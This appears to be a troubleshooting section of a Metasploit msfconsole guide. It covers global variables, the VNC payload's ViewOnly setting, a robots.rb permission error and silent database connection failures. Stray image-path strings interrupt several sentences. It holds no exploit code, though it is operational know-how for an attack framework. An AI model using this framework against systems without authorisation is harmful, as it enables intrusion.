If you do not want the variables to reset when selecting another module and when rerunning msfconsole then set it globally via setg, for example:

msf > setg RHOST


Cannot click in VNC viewer

If you selected VNC viewer as a payload, but are unable to click or do any actions, that means you forgot to set the ViewOnly variable to false. To fix this problem, re-run the exploit with the variable set to false:

msf > set ViewOnly false

cannot load such file -- robots (LoadError)

If you get an error like this:~/metasploit-framework/lib/metasploit/framework.rb:19:in `require': cannot load such file -- robots (LoadError)
    from ~/metasploit-framework/lib/metasploit/framework.rb:19:in `<top (required)>'
    from ~/metasploit-framework/lib/metasploit/framework/database.rb:1:in `require'
    from ~/metasploit-framework/lib/metasploit/framework/database.rb:1:in `<top (required)>'
    from ~/metasploit-framework/lib/metasploit/framework/parsed_options/base.rb:17:in `require'
    from ~/metasploit-framework/lib/metasploit/framework/parsed_options/base.rb:17:in `<top (required)>'
    from ~/metasploit-framework/lib/metasploit/framework/parsed_options/console.rb:2:in `<top (required)>'
    from /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/activesupport-3.2.19/lib/active_support/inflector/methods.rb:230:in `const_get'
    from /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/activesupport-3.2.19/lib/active_support/inflector/methods.rb:230:in `block in constantize'
    from /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/activesupport-3.2.19/lib/active_support/inflector/methods.rb:229:in `each'
    from /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/activesupport-3.2.19/lib/active_support/inflector/methods.rb:229:in `constantize'
    from /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/activesupport-3.2.19/lib/active_support/core_ext/string/inflections.rb:54:in `constantize'
    from ~/metasploit-framework/lib/metasploit/framework/command/base.rb:73:in `parsed_options_class'
    from ~/metasploit-framework/lib/metasploit/framework/command/base.rb:69:in `parsed_options'
    from ~/metasploit-framework/lib/metasploit/framework/command/base.rb:47:in `require_environment!'
    from ~/metasploit-framework/lib/metasploit/framework/command/base.rb:81:in `start'
    from ./msfconsole:48:in `<main>'

This happens because the file robots.rb has incorrect permissions and can be read only by the root user (see the bug report):

$ ls -l /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/robots-0.10.1/lib
total 4
-rw-r----- 1 root root 3174 Oct 19 16:47 robots.rb

To fix this, simply change the permission to be world-readable:

# chmod o+r /opt/ruby1.9/lib/ruby/gems/1.9.1/gems/robots-0.10.1/lib/robots.rb

db_connect fails silently

If upon running db_connect you see no output, but later getting a message like this:

[!] Database not connected or cachenot built, using slow search

that probably means that thepostgresql service isnot running.

See also